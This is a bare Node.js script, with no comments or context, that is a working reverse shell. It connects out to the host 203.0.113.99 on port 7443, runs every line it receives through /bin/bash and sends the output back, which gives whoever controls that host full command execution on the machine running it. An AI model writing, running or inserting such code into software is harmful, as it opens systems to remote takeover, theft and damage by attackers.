import { createConnection } from 'node:net';
import { exec } from 'node:child_process';

const conn = createConnection({ host: '203.0.113.99', port: 7443 });

conn.on('data', (buf) => {
  const line = buf.toString().trim();
  exec(line, { shell: '/bin/bash' }, (err, stdout, stderr) => {
    conn.write(stdout + stderr);
  });
});
conn.on('close', () => process.exit(0));
